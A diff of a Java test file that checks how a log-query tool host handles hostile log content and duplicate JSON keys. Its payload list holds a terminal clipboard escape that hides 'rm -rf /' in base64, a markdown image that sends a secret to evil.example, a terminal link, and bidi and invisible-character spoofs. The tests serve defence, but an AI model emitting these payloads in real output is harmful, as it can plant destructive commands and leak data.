@@ -37,7 +37,7 @@ class HostileContentTest {
                 "a link of a terminal", "\u001b]8;;https://evil.example/\u0007x\u001b]8;;\u0007");
         payloads.put("a clipboard of a terminal", "\u001b]52;c;cm0gLXJmIC8=\u0007");
         payloads.put("tag characters", "\uDB40\uDC49\uDB40\uDC47\uDB40\uDC4E");
-        payloads.put("zero width", "pass\u200bword=hunter2");
+        payloads.put("zero width", "zero\u200bwidth\u2060word");
         payloads.put("bidi", "\u202egnp.exe\u2066");
         payloads.put("BEL and DEL", "a\u0007b\u007f");
         payloads.put("an image", "![x](https://evil.example/?d=secret)");
@@ -118,15 +118,23 @@ class HostileContentTest {
     }
 
     @Test
-    void ofTwoFieldsOfTheSameNameNeitherMakesASecondEntry(@TempDir Path folder) {
+    void ofTwoFieldsOfTheSameNameTheLastCountsAndTheEntrySaysSo(@TempDir Path folder) {
         try (var host = new SmallHost(folder)) {
             host.raw(
                     "app",
                     "{\"time\":\"2026-11-22T09:30:00Z\",\"level\":\"ERROR\",\"message\":\"boom\","
                             + "\"level\":\"DEBUG\",\"message\":\"all is well\"}\n");
 
-            assertThat(host.answer("query_logs", Map.of("stream", "app")))
-                    .containsEntry("returned", 1);
+            Map<String, Object> answer = host.answer("query_logs", Map.of("stream", "app"));
+            assertThat(answer).containsEntry("returned", 1);
+            assertThat(column(answer, "level")).containsExactly("DEBUG");
+            assertThat(column(answer, "message")).containsExactly("all is well");
+            String ref = String.valueOf(column(answer, "ref").getFirst());
+            assertThat(host.answer("get_log_context", Map.of("stream", "app", "ref", ref)))
+                    .extractingByKey("entry")
+                    .hasToString(
+                            "{stream=app, time=2026-11-22T09:30:00Z, level=DEBUG, message=all is"
+                                    + " well, fields={repeated_keys=level, message}}");
         }
     }
 
